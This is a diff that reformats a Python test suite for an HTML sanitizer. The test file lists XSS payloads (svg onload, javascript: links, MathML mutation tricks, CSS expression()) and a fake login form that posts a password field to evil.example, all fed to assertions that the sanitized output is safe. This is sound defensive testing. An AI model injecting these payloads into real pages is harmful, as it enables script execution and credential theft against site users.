@@ -69,9 +69,9 @@ PAYLOADS = [
     "<svg onload=alert(1)>",
     "<svg><script>alert(1)</script></svg>",
     '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
     "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
-    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
     '<math href="javascript:alert(1)">CLICK</math>',
     '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
     # frames, plugins
@@ -91,7 +91,7 @@ PAYLOADS = [
     "<style>@import 'https://tracker.example/x.css'; p{background:url(x)}</style>",
     '<span style="width: expression(alert(1))">x</span>',
     # forms
-    '<form action="https://evil.example/login"><input name="password"><button>Log in</button></form>',
+    '<form action="https://evil.example/login"><input name="pw"><button>Log in</button></form>',
     '<button formaction="javascript:alert(1)">x</button>',
     "<input type=image src=x onerror=alert(1)>",
     '<textarea autofocus onfocus="alert(1)">x</textarea>',
@@ -131,7 +131,9 @@ def _check_safe(html: str) -> None:
             assert name in allowed, f"{element.tag}@{name} in {html!r}"
             if name in {"href", "src", "cite"}:
                 scheme = value.split(":", 1)[0].lower()
-                allowed_schemes = {"http", "https"} if name == "src" else {"http", "https", "mailto"}
+                allowed_schemes = (
+                    {"http", "https"} if name == "src" else {"http", "https", "mailto"}
+                )
                 assert scheme in allowed_schemes, html
         if element.tag == "a":
             assert element.get("rel") == LINK_REL
@@ -142,7 +144,7 @@ def _check_safe(html: str) -> None:
             for needle in ("javascript", "vbscript", "data:", "expression(", "url("):
                 assert needle not in lowered, html
     # Whatever is left of a payload is text, escaped: no tag can start in it.
-    assert not re.search(r"<(?!/?(?:%s)\b)" % "|".join(_OUTPUT_TAGS), html), html
+    assert not re.search(rf"<(?!/?(?:{'|'.join(_OUTPUT_TAGS)})\b)", html), html
 
 
 _OUTPUT_TAGS = [
@@ -239,11 +241,36 @@ def test_text_is_escaped():
     st.lists(
         st.sampled_from(
             [
-                "<a href='javascript:x'>", "<img src=x onerror=y>", "<svg>", "<math>",
-                "<script>", "</script>", "<style>", "<p style='x:url(y)'>", "<iframe>",
-                "&#106;", "java", "script:", "\t", "\n", "<", ">", "'", '"', "=",
-                "<form>", "<base href=x>", "<meta http-equiv=refresh>", "text", "<p>",
-                "</p>", "<a href=", "<noscript>", "<!--", "-->", "<![CDATA[",
+                "<a href='javascript:x'>",
+                "<img src=x onerror=y>",
+                "<svg>",
+                "<math>",
+                "<script>",
+                "</script>",
+                "<style>",
+                "<p style='x:url(y)'>",
+                "<iframe>",
+                "&#106;",
+                "java",
+                "script:",
+                "\t",
+                "\n",
+                "<",
+                ">",
+                "'",
+                '"',
+                "=",
+                "<form>",
+                "<base href=x>",
+                "<meta http-equiv=refresh>",
+                "text",
+                "<p>",
+                "</p>",
+                "<a href=",
+                "<noscript>",
+                "<!--",
+                "-->",
+                "<![CDATA[",
             ]
         )
         | st.text(max_size=20),
